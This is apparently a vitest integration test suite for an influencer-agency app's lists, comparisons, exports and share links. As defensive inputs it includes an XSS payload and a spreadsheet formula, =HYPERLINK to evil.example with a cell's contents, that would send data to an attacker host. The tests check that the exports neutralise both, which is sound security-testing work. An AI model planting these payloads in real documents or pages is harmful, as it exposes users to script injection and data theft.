import crypto from "node:crypto";
import { parse as parseCsv } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { indexFieldsForSnapshot } from "#core/engine/build-report";
import { type FakeUpstream, startFakeUpstream } from "../collectors/testing/fake-upstream";
import type { Database } from "../db/database";
import { queryRows } from "../discovery/sql";
import { seedSampleAccounts } from "../samples/sample-service";
import { cookieHeader } from "../testing/sign-in";
import { startTestApp, type TestAppHandle } from "../testing/test-app";
import { testedDatabaseKinds } from "../testing/test-db";
import { pdfText } from "./testing/read-back";

const DAY = 86_400_000;
const HOSTILE_HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
/** A 1×1 PNG. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);

interface Harness extends TestAppHandle {
  clock: Date;
  upstream: FakeUpstream;
  /** Public sample creators on Instagram (seeded, no report yet). */
  samples: string[];
  alice: string;
  bob: string;
}

describe.each(testedDatabaseKinds())("agency lists, compare, exports and share links on %s", (kind) => {
  const h = { clock: new Date("2026-11-22T12:00:00Z") } as Harness;

  beforeAll(async () => {
    h.upstream = await startFakeUpstream();
    h.upstream.route("GET", "/logo.png", { body: PNG, headers: { "content-type": "image/png" } });
    const seed = async (database: Database) => {
      await seedSampleAccounts(database.db, {
        count: 12,
        now: h.clock,
        indexFields: (s) => indexFieldsForSnapshot(s, h.clock),
      });
      const rows = await database.db.query.accounts.findMany({
        where: (a, { and, eq }) => and(eq(a.platform, "instagram"), eq(a.isPrivate, false)),
      });
      h.samples = rows.map((r) => r.username);
    };
    const env = {
      DEV_LOGIN: "1",
      COLLECTORS: "sample",
      USER_DAILY_REPORT_LIMIT: "1000",
      BRAND_NAME: "Acme Talent",
      BRAND_LOGO_URL: `${h.upstream.url}/logo.png`,
      APP_URL: "http://localhost:5000",
    };
    Object.assign(h, await startTestApp(kind, { seed, env, now: () => h.clock }));
    const signIn = async (email: string) => {
      const res = await h.app.inject({ method: "POST", url: "/api/auth/dev-login", payload: { email } });
      expect(res.statusCode, res.body).toBe(200);
      return cookieHeader(res);
    };
    h.alice = await signIn("alice@example.com");
    h.bob = await signIn("bob@example.com");
  });
  afterAll(async () => {
    await h.close?.();
    await h.upstream?.close();
  });

  const call = (
    method: "GET" | "POST" | "PATCH" | "DELETE",
    url: string,
    cookie?: string,
    payload?: object,
  ) => h.app.inject({ method, url, headers: cookie ? { cookie } : {}, payload });
  const analyze = async (username: string) => {
    const res = await call("POST", "/api/analyze", h.alice, { username, platform: "instagram" });
    expect(res.statusCode, res.body).toBe(200);
    return res.json() as {
      username: string;
      followers: number;
      metrics: { value: { low: number; high: number } };
    };
  };
  const newList = async (name: string, cookie = h.alice) => {
    const res = await call("POST", "/api/lists", cookie, { name });
    expect(res.statusCode, res.body).toBe(201);
    return res.json() as { id: number; name: string };
  };
  const add = (listId: number, body: object, cookie = h.alice) =>
    call("POST", `/api/lists/${listId}/items`, cookie, body);

  it("keeps lists to signed-in owners: visitors get 401, another user's list is a 404 on every call", async () => {
    expect((await call("GET", "/api/lists")).statusCode).toBe(401);
    const anon = await call("POST", "/api/lists", undefined, { name: "x" });
    expect(anon.statusCode).toBe(401);
    expect(anon.json()).toMatchObject({ requiresAuth: true });

    const list = await newList("  Spring launch  ");
    expect(list.name).toBe("Spring launch");
    const item = (await add(list.id, { platform: "instagram", username: h.samples[0] })).json() as {
      id: number;
    };

    const theirs = [
      ["GET", `/api/lists/${list.id}`],
      ["DELETE", `/api/lists/${list.id}`],
      ["POST", `/api/lists/${list.id}/items`, { platform: "instagram", username: "someone" }],
      ["PATCH", `/api/lists/${list.id}/items/${item.id}`, { note: "mine now" }],
      ["DELETE", `/api/lists/${list.id}/items/${item.id}`],
      ["GET", `/api/lists/${list.id}/export?format=csv`],
      ["POST", `/api/lists/${list.id}/share`, { expiresInDays: 7 }],
      ["GET", `/api/lists/${list.id}/shares`],
    ] as const;
    for (const [method, url, body] of theirs) {
      const res = await call(method, url, h.bob, body);
      expect(res.statusCode, `${method} ${url}`).toBe(404);
      expect(res.json().message).toBe(`No list ${list.id} was found.`);
    }
    expect((await call("GET", "/api/lists", h.bob)).json()).toEqual([]);
    // Alice's list is untouched.
    const mine = (await call("GET", `/api/lists/${list.id}`, h.alice)).json();
    expect(mine.items).toHaveLength(1);
    expect(mine.items[0].note).toBe("");
  });

  it("caps a user at 100 lists with a message that says so", async () => {
    const login = await call("POST", "/api/auth/dev-login", undefined, { email: "carol@example.com" });
    const carol = cookieHeader(login);
    for (let i = 0; i < 100; i++)
      expect((await call("POST", "/api/lists", carol, { name: `L${i}` })).statusCode).toBe(201);
    const over = await call("POST", "/api/lists", carol, { name: "one more" });
    expect(over.statusCode).toBe(409);
    expect(over.json().message).toBe("This workspace already has 100 lists; delete one to start another.");
    expect((await call("GET", "/api/lists", carol)).json()).toHaveLength(100);
  });

  it("refuses a cross-site request to change a list", async () => {
    const res = await h.app.inject({
      method: "POST",
      url: "/api/lists",
      headers: { cookie: h.alice, origin: "https://evil.example", "sec-fetch-site": "cross-site" },
      payload: { name: "csrf" },
    });
    expect(res.statusCode).toBe(403);
  });

  it("answers bad input with a 400 naming the field", async () => {
    const list = await newList("Validation");
    const cases: [string, string, object, string][] = [
      ["POST", "/api/lists", { name: "" }, "name"],
      ["POST", "/api/lists", { name: "x".repeat(101) }, "name"],
      ["POST", `/api/lists/${list.id}/items`, { platform: "myspace", username: "a" }, "platform"],
      ["POST", `/api/lists/${list.id}/items`, { platform: "instagram", username: "" }, "username"],
      ["POST", `/api/lists/${list.id}/items`, { platform: "instagram", username: "<b>x</b>" }, "username"],
      [
        "POST",
        `/api/lists/${list.id}/items`,
        { platform: "instagram", username: "a", status: "hired" },
        "status",
      ],
      [
        "POST",
        `/api/lists/${list.id}/items`,
        { platform: "instagram", username: "a", note: "n".repeat(2001) },
        "note",
      ],
      ["POST", `/api/lists/${list.id}/share`, { expiresInDays: 0 }, "expiresInDays"],
      ["POST", `/api/lists/${list.id}/share`, { expiresInDays: 91 }, "expiresInDays"],
    ];
    for (const [method, url, body, field] of cases) {
      const res = await call(method as "POST", url, h.alice, body);
      expect(res.statusCode, `${url} ${JSON.stringify(body).slice(0, 60)}`).toBe(400);
      expect(res.json().message).toMatch(new RegExp(field));
    }
    expect((await call("GET", "/api/lists/abc", h.alice)).json().message).toMatch(/id/);
    expect((await call("GET", `/api/lists/${list.id}/export?format=docx`, h.alice)).json().message).toMatch(
      /format/,
    );
    expect((await call("PATCH", `/api/lists/${list.id}/items/1`, h.alice, {})).json().message).toMatch(
      /note or status/,
    );
  });

  it("adds creators with notes and statuses, totals their followers and estimated costs, and removes them", async () => {
    const [a, b, c] = h.samples;
    const ra = await analyze(a!);
    const rb = await analyze(b!);
    const list = await newList("Totals");
    const first = await add(list.id, {
      platform: "instagram",
      username: `@${a!.toUpperCase()}`,
      note: "Loves pets",
      status: "contacted",
    });
    expect(first.statusCode, first.body).toBe(201);
    expect(first.json()).toMatchObject({
      username: a,
      note: "Loves pets",
      status: "contacted",
      grade: expect.any(String),
    });
    expect((await add(list.id, { platform: "instagram", username: b })).statusCode).toBe(201);
    const third = (await add(list.id, { platform: "instagram", username: c })).json();
    // c is indexed (discovery) but has no stored report: figures from the index, no price, no report date.
    expect(third).toMatchObject({
      username: c,
      reportDate: null,
      estimatedCostLow: null,
      status: "prospect",
    });

    const dup = await add(list.id, { platform: "instagram", username: a });
    expect(dup.statusCode).toBe(409);
    expect(dup.json().message).toContain("already on");

    const detail = (await call("GET", `/api/lists/${list.id}`, h.alice)).json();
    expect(detail.items.map((i: { username: string }) => i.username)).toEqual([a, b, c]);
    expect(detail.items[0].reportDate).toBe(h.clock.toISOString());
    const followers = detail.items.reduce((s: number, i: { followers: number }) => s + i.followers, 0);
    // c has no estimate: the cost total leaves it out and says so (issue #39 item 12).
    expect(detail.totals).toEqual({
      creators: 3,
      followers,
      estimatedCostLow: ra.metrics.value.low + rb.metrics.value.low,
      estimatedCostHigh: ra.metrics.value.high + rb.metrics.value.high,
      costEstimatedFor: 2,
    });

    const patched = await call("PATCH", `/api/lists/${list.id}/items/${third.id}`, h.alice, {
      status: "booked",
    });
    expect(patched.json()).toMatchObject({ status: "booked", note: "" });
    const noted = await call("PATCH", `/api/lists/${list.id}/items/${third.id}`, h.alice, {
      note: "Call Monday",
    });
    expect(noted.json()).toMatchObject({ status: "booked", note: "Call Monday" });

    expect((await call("DELETE", `/api/lists/${list.id}/items/${third.id}`, h.alice)).statusCode).toBe(200);
    expect((await call("DELETE", `/api/lists/${list.id}/items/${third.id}`, h.alice)).statusCode).toBe(404);
    expect((await call("GET", `/api/lists/${list.id}`, h.alice)).json().totals.creators).toBe(2);

    const summaries = (await call("GET", "/api/lists", h.alice)).json();
    expect(summaries.find((l: { id: number }) => l.id === list.id)).toMatchObject({
      name: "Totals",
      creators: 2,
    });

    expect((await call("DELETE", `/api/lists/${list.id}`, h.alice)).statusCode).toBe(200);
    expect((await call("GET", `/api/lists/${list.id}`, h.alice)).statusCode).toBe(404);
    const left = await queryRows<{ n: number | string }>(
      h.database.db,
      sql`select count(*) as n from creator_list_items where list_id = ${list.id}`,
    );
    expect(Number(left[0]!.n)).toBe(0);
  });

  it("compares stored reports without spending a report, marks the best values and says which report is missing", async () => {
    const [a, b] = h.samples;
    await analyze(a!);
    await analyze(b!);
    const before = (await call("GET", "/api/reports/count", h.alice)).json().count;
    const missing = h.samples[5]!;
    const res = await call(
      "GET",
      `/api/compare?accounts=instagram:${a},instagram:@${b},instagram:${missing}`,
      h.alice,
    );
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.accounts.map((x: { found: boolean }) => x.found)).toEqual([true, true, false]);
    expect(body.accounts[2].message).toBe(
      `No stored report for @${missing} on Instagram yet. Analyse the account to add it to the comparison.`,
    );
    const [fa, fb] = [body.accounts[0].figures, body.accounts[1].figures];
    expect(fa.provenance.followers.kind).toBe("sample");
    expect(fa.provenance.engagementRate.method).toEqual(expect.any(String));
    const bestFollowers = fa.followers >= fb.followers ? [`instagram:${a}`] : [`instagram:${b}`];
    if (fa.followers === fb.followers) bestFollowers.push(`instagram:${b}`);
    expect(body.best.followers).toEqual(bestFollowers);
    const cheaper = fa.priceLow <= fb.priceLow ? `instagram:${a}` : `instagram:${b}`;
    expect(body.best.price).toContain(cheaper);
    expect((await call("GET", "/api/reports/count", h.alice)).json().count).toBe(before);
    // Not kept by the browser: once the missing creator is analysed, the next read has it.
    expect(res.headers["cache-control"]).toBe("private, no-store");
    await analyze(missing);
    const again = await call("GET", `/api/compare?accounts=instagram:${a},instagram:${missing}`, h.alice);
    expect(again.json().accounts.map((x: { found: boolean }) => x.found)).toEqual([true, true]);

    const five = h.samples
      .slice(0, 5)
      .map((u) => `instagram:${u}`)
      .join(",");
    const tooMany = await call("GET", `/api/compare?accounts=${five}`);
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json()).toMatchObject({ field: "accounts" });
    expect(tooMany.json().message).toContain("at most 4");
    const bad = await call("GET", "/api/compare?accounts=myspace:tom");
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toContain("myspace:tom");
  });

  it("exports a list as CSV, XLSX and a branded PDF that real parsers read back, hostile notes inert", async () => {
    const [a, b, c] = h.samples;
    const ra = await analyze(a!);
    const list = await newList('Export, "quoted" & <b>tagged</b>');
    await add(list.id, { platform: "instagram", username: a, note: HOSTILE_FORMULA, status: "negotiating" });
    await add(list.id, { platform: "instagram", username: b, note: HOSTILE_HTML });
    await add(list.id, { platform: "instagram", username: c, note: "-2+3" });
    const detail = (await call("GET", `/api/lists/${list.id}`, h.alice)).json();

    const csv = await call("GET", `/api/lists/${list.id}/export?format=csv`, h.alice);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(csv.headers["content-disposition"]).toBe(
      'attachment; filename="export-quoted-btaggedb-2026-11-22.csv"',
    );
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = parseCsv(csv.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(4);
    expect(records[0]).toMatchObject({
      Platform: "Instagram",
      Username: a,
      Followers: String(ra.followers),
      Status: "Negotiating",
      Note: `'${HOSTILE_FORMULA}`,
      "Report date": "2026-11-22",
      "Est. cost low (USD)": String(ra.metrics.value.low),
    });
    expect(records[1]!.Note).toBe(HOSTILE_HTML);
    expect(records[2]!.Note).toBe("'-2+3");
    expect(records[3]).toMatchObject({ Platform: "Total", Followers: String(detail.totals.followers) });
    // Creators without an estimate are left out of the cost total, and the row says so (issue #39).
    expect(detail.totals.costEstimatedFor).toBeLessThan(3);
    expect(records[3]).toMatchObject({
      "Est. cost low (USD)": String(detail.totals.estimatedCostLow),
      Note: `cost estimated for ${detail.totals.costEstimatedFor} of 3 creators`,
    });

    const xlsx = await call("GET", `/api/lists/${list.id}/export?format=xlsx`, h.alice);
    expect(xlsx.headers["content-type"]).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).value).toBe("Platform");
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.getRow(2).getCell(4).value).toBe(ra.followers);
    expect(sheet.getRow(2).getCell(4).type).toBe(ExcelJS.ValueType.Number);
    const note = sheet.getRow(2).getCell(10);
    expect(note.type).toBe(ExcelJS.ValueType.String);
    expect(note.value).toBe(HOSTILE_FORMULA);
    expect(note.formula).toBeUndefined();
    expect(sheet.getRow(2).getCell(11).value).toBeInstanceOf(Date);
    expect(sheet.getRow(5).getCell(4).value).toBe(detail.totals.followers);

    const pdf = await call("GET", `/api/lists/${list.id}/export?format=pdf`, h.alice);
    expect(pdf.headers["content-type"]).toBe("application/pdf");
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe("%PDF-");
    const { text } = await pdfText(pdf.rawPayload);
    // Long notes wrap inside their cell: compare without white space.
    const squeezed = text.replace(/\s+/g, "");
    for (const expected of [
      "Acme Talent",
      'Export, "quoted" & <b>tagged</b>',
      a!,
      b!,
      c!,
      "Total",
      "2026-11-22",
      HOSTILE_FORMULA,
    ]) {
      expect(squeezed).toContain(expected.replace(/\s+/g, ""));
    }
    // The brand logo fetched from BRAND_LOGO_URL is embedded as an image.
    expect(pdf.rawPayload.toString("latin1")).toMatch(/\/Subtype \/Image/);
    expect(h.upstream.requests.filter((r) => r.path === "/logo.png").length).toBe(1);
  });

  it("exports a comparison in the three formats", async () => {
    const [a, b] = h.samples;
    await analyze(a!);
    await analyze(b!);
    const q = `accounts=instagram:${a},instagram:${b}`;
    const csv = await call("GET", `/api/compare/export?${q}&format=csv`);
    const records = parseCsv(csv.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.Username)).toEqual([a, b, "2 creators"]);
    const low = Number(records[0]!["Est. cost low (USD)"]) + Number(records[1]!["Est. cost low (USD)"]);
    expect(records[2]).toMatchObject({ Platform: "Total", "Est. cost low (USD)": String(low) });
    // A creator without a stored report has no estimate: left out of the total, and said (issue #39).
    const withMissing = await call("GET", `/api/compare/export?${q},instagram:never_analysed_x&format=csv`);
    const rows = parseCsv(withMissing.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.at(-1)).toMatchObject({
      Platform: "Total",
      Username: "3 creators",
      "Est. cost low (USD)": String(low),
    });
    expect(Object.values(rows.at(-1)!)).toContain("cost estimated for 2 of 3 creators");
    const pdf = await call("GET", `/api/compare/export?${q}&format=pdf`);
    expect((await pdfText(pdf.rawPayload)).text).toContain("Creator comparison");
    const xlsx = await call("GET", `/api/compare/export?${q}&format=xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets[0]!.rowCount).toBe(4);
  });

  it("shares a list read-only without sign-in, hides notes unless included, and stores only the token's hash", async () => {
    const [a, b] = h.samples;
    const list = await newList("Client view");
    await add(list.id, { platform: "instagram", username: a, note: HOSTILE_HTML });
    await add(list.id, { platform: "instagram", username: b, note: "internal: budget 2k" });

    const created = await call("POST", `/api/lists/${list.id}/share`, h.alice, { expiresInDays: 7 });
    expect(created.statusCode, created.body).toBe(201);
    const share = created.json();
    expect(share.token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 bits
    expect(share.url).toBe(`http://localhost:5000/shared/lists/${share.token}`);
    expect(share.expiresAt).toBe(new Date(h.clock.getTime() + 7 * DAY).toISOString());

    const stored = await queryRows<{ token_hash: string }>(
      h.database.db,
      sql`select token_hash from creator_list_shares where id = ${share.id}`,
    );
    expect(stored[0]!.token_hash).toBe(crypto.createHash("sha256").update(share.token).digest("hex"));
    const anywhere = await queryRows<{ n: number | string }>(
      h.database.db,
      sql`select count(*) as n from creator_list_shares where token_hash = ${share.token} or hint = ${share.token}`,
    );
    expect(Number(anywhere[0]!.n)).toBe(0);

    const open = await call("GET", `/api/shared/lists/${share.token}`);
    expect(open.statusCode, open.body).toBe(200);
    expect(open.headers["cache-control"]).toBe("private, no-store");
    const body = open.json();
    expect(body).toMatchObject({ name: "Client view", includeNotes: false, brand: { name: "Acme Talent" } });
    expect(body.items).toHaveLength(2);
    expect(open.body).not.toContain("budget");
    expect(body.items[0]).not.toHaveProperty("note");
    expect(body.items[0]).not.toHaveProperty("id");

    const withNotes = (
      await call("POST", `/api/lists/${list.id}/share`, h.alice, { expiresInDays: 1, includeNotes: true })
    ).json();
    const noted = await call("GET", `/api/shared/lists/${withNotes.token}`);
    expect(noted.headers["content-type"]).toContain("application/json");
    expect(noted.json().items.map((i: { note: string }) => i.note)).toEqual([
      HOSTILE_HTML,
      "internal: budget 2k",
    ]);

    const live = (await call("GET", `/api/lists/${list.id}/shares`, h.alice)).json();
    expect(live.map((s: { hint: string }) => s.hint).sort()).toEqual(
      [share.token.slice(0, 6), withNotes.token.slice(0, 6)].sort(),
    );

    // Revocation by token.
    expect((await call("DELETE", `/api/lists/${list.id}/share/${share.token}`, h.bob)).statusCode).toBe(404);
    expect((await call("DELETE", `/api/lists/${list.id}/share/${share.token}`, h.alice)).statusCode).toBe(
      200,
    );
    const revoked = await call("GET", `/api/shared/lists/${share.token}`);
    expect(revoked.statusCode).toBe(404);
    expect(revoked.json().message).toBe("This share link was revoked by its owner.");
    expect((await call("DELETE", `/api/lists/${list.id}/share/${share.token}`, h.alice)).statusCode).toBe(
      404,
    );

    // Expiry: a day later the one-day link is gone.
    const saved = h.clock;
    h.clock = new Date(saved.getTime() + DAY + 1000);
    try {
      const expired = await call("GET", `/api/shared/lists/${withNotes.token}`);
      expect(expired.statusCode).toBe(404);
      expect(expired.json().message).toBe("This share link has expired.");
    } finally {
      h.clock = saved;
    }

    // Revocation by id (the owner's list of live links).
    const third = (await call("POST", `/api/lists/${list.id}/share`, h.alice, { expiresInDays: 3 })).json();
    expect((await call("DELETE", `/api/lists/${list.id}/shares/${third.id}`, h.alice)).statusCode).toBe(200);
    expect((await call("GET", `/api/shared/lists/${third.token}`)).statusCode).toBe(404);

    const unknown = await call("GET", `/api/shared/lists/${crypto.randomBytes(32).toString("base64url")}`);
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().message).toBe("This share link does not exist.");
    expect((await call("GET", "/api/shared/lists/not%20a%20token")).statusCode).toBe(400);

    // Deleting the list ends its links.
    const fourth = (await call("POST", `/api/lists/${list.id}/share`, h.alice, { expiresInDays: 3 })).json();
    await call("DELETE", `/api/lists/${list.id}`, h.alice);
    expect((await call("GET", `/api/shared/lists/${fourth.token}`)).statusCode).toBe(404);
  });

  it("serves the pages (the shared page's token stays out of its metadata) and keeps them out of search engines", async () => {
    const token = crypto.randomBytes(32).toString("base64url");
    for (const url of ["/lists", "/compare?accounts=instagram:a", `/shared/lists/${token}`]) {
      const res = await call("GET", url);
      expect(res.statusCode, url).toBe(200);
      expect(res.headers["content-type"]).toContain("text/html");
      expect(res.body).not.toContain(token);
    }
    const robots = (await call("GET", "/robots.txt")).body;
    for (const rule of ["Disallow: /lists", "Disallow: /compare", "Disallow: /shared/"])
      expect(robots).toContain(rule);
  });

  // Last: it uses up this address's share-link budget for the minute.
  it("rate-limits share-link reads per address", async () => {
    const token = crypto.randomBytes(32).toString("base64url");
    const codes: number[] = [];
    for (let i = 0; i < 32; i++) codes.push((await call("GET", `/api/shared/lists/${token}`)).statusCode);
    expect(codes).toContain(429);
    expect(codes.filter((c) => c === 404).length).toBeLessThanOrEqual(30);
  });
});
